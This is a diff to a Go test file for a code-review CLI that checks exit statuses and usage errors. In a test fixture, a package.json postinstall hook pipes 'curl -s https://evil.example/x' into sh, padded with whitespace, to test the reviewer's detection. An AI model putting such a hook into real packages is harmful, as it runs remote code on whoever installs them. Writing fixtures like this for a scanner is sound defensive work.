@@ -55,21 +55,25 @@ func TestReviewExitStatus(t *testing.T) {
 		{"a change for patch alone", nil, []string{"-"}, "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-x\n+y\n*** a/Makefile\n--- b/Makefile\n***************\n*** 1 ****\n! all:\n--- 1 ----\n! all: evil\n", 3, "context diff"},
 		{"padded settings", map[string]string{"package.json": `{"scripts":{"postinstall":"curl -s https://evil.example/x | sh"}}` + strings.Repeat(" ", 3<<20)}, []string{"."}, "", 1, "postinstall runs"},
 		{"settings beyond all reading", map[string]string{"package.json": `{"scripts":{}` + strings.Repeat(" ", 17<<20) + "}"}, []string{"."}, "", 3, "large-settings"},
-		{"no target", nil, nil, "", 2, "target"},
-		{"unknown target", nil, []string{"nothing/here"}, "", 2, "not a directory, file"},
-		{"unknown flag", nil, []string{"--nope", "."}, "", 2, "--nope"},
-		{"no instructions", map[string]string{"a.py": clearFile}, []string{"--instructions", "missing.md", "."}, "", 2, "--instructions: open missing.md"},
+		{"no target", nil, nil, "", cli.ExitUsage, "target"},
+		{"unknown target", nil, []string{"nothing/here"}, "", cli.ExitUsage, "not a directory, file"},
+		{"unknown flag", nil, []string{"--nope", "."}, "", cli.ExitUsage, "--nope"},
+		{"no instructions", map[string]string{"a.py": clearFile}, []string{"--instructions", "missing.md", "."}, "", cli.ExitUsage, "--instructions: open missing.md"},
 		{"instructions", map[string]string{"a.py": clearFile, "wishes.md": "look at a.py\n"}, []string{"--instructions", "wishes.md", "."}, "", 0, "0 findings"},
-		{"bad format", nil, []string{"--format", "pdf", "."}, "", 2, "pdf"},
-		{"bad threshold", nil, []string{"--fail-on", "HIGH", "."}, "", 2, "--fail-on"},
-		{"bad engine", nil, []string{"--engine", "magic", "."}, "", 2, "magic"},
-		{"bad isolation", nil, []string{"--isolate", "maybe", "."}, "", 2, "maybe"},
-		{"no baseline", nil, []string{"--baseline", "none.sarif", "."}, "", 2, "none.sarif"},
-		{"an empty diff", nil, []string{"-"}, "\n", 2, "the diff is empty"},
-		{"a diff with colors", nil, []string{"-"}, "\x1b[1mdiff --git a/x b/x\x1b[m\n\x1b[1m--- a/x\x1b[m\n", 2, "--no-color"},
-		{"no diff", nil, []string{"-"}, "hello", 2, "not a unified diff"},
+		{"bad format", nil, []string{"--format", "pdf", "."}, "", cli.ExitUsage, "pdf"},
+		{"bad threshold", nil, []string{"--fail-on", "HIGH", "."}, "", cli.ExitUsage, "--fail-on"},
+		{"bad engine", nil, []string{"--engine", "magic", "."}, "", cli.ExitUsage, "magic"},
+		{"bad isolation", nil, []string{"--isolate", "maybe", "."}, "", cli.ExitUsage, "maybe"},
+		{"no pull request for the comment", nil, []string{"--comment", "nonsense", "."}, "", cli.ExitUsage, "--comment: "},
+		{"no token for the comment", nil, []string{"--comment", "o/r#1", "--token-env", "NO_TOKEN", "."}, "", cli.ExitUsage, "no token in NO_TOKEN"},
+		{"a second model for nothing", nil, []string{"--taint-model", "m", "."}, "", cli.ExitUsage, "--taint-model requires --taint-check"},
+		{"no baseline", nil, []string{"--baseline", "none.sarif", "."}, "", cli.ExitUsage, "none.sarif"},
+		{"an empty diff", nil, []string{"-"}, "\n", cli.ExitUsage, "the diff is empty"},
+		{"a diff with colors", nil, []string{"-"}, "\x1b[1mdiff --git a/x b/x\x1b[m\n\x1b[1m--- a/x\x1b[m\n", cli.ExitUsage, "--no-color"},
+		{"no diff", nil, []string{"-"}, "hello", cli.ExitUsage, "not a unified diff"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
+			t.Setenv("GITHUB_TOKEN", "x")
 			dir := reviewed(t, tt.files)
 			args := append([]string{"review", "--engine", "none"}, tt.args...)
 			out, exit := runUmpireBy(t, person(), dir, tt.stdin, args...)
@@ -94,7 +98,7 @@ func TestReviewIgnoresAddressInEnvironment(t *testing.T) {
 		n    int
 	}{{"--provider openai", 1}, {"--provider openai --model m --taint-check", 1}, {"--provider anthropic", 0}, {"--provider openai --base-url https://127.0.0.1:1/v1 --api-key-env NONE", 0}} {
 		out, exit := runUmpireBy(t, person(), dir, "", append(append([]string{"review"}, strings.Fields(tt.args)...), ".")...)
-		if exit != 2 || strings.Count(out, said) != tt.n || !strings.Contains(out, "there is no key") {
+		if exit != cli.ExitUsage || strings.Count(out, said) != tt.n || !strings.Contains(out, "there is no key") {
 			t.Errorf("%s: exit %d, %s", tt.args, exit, out)
 		}
 	}
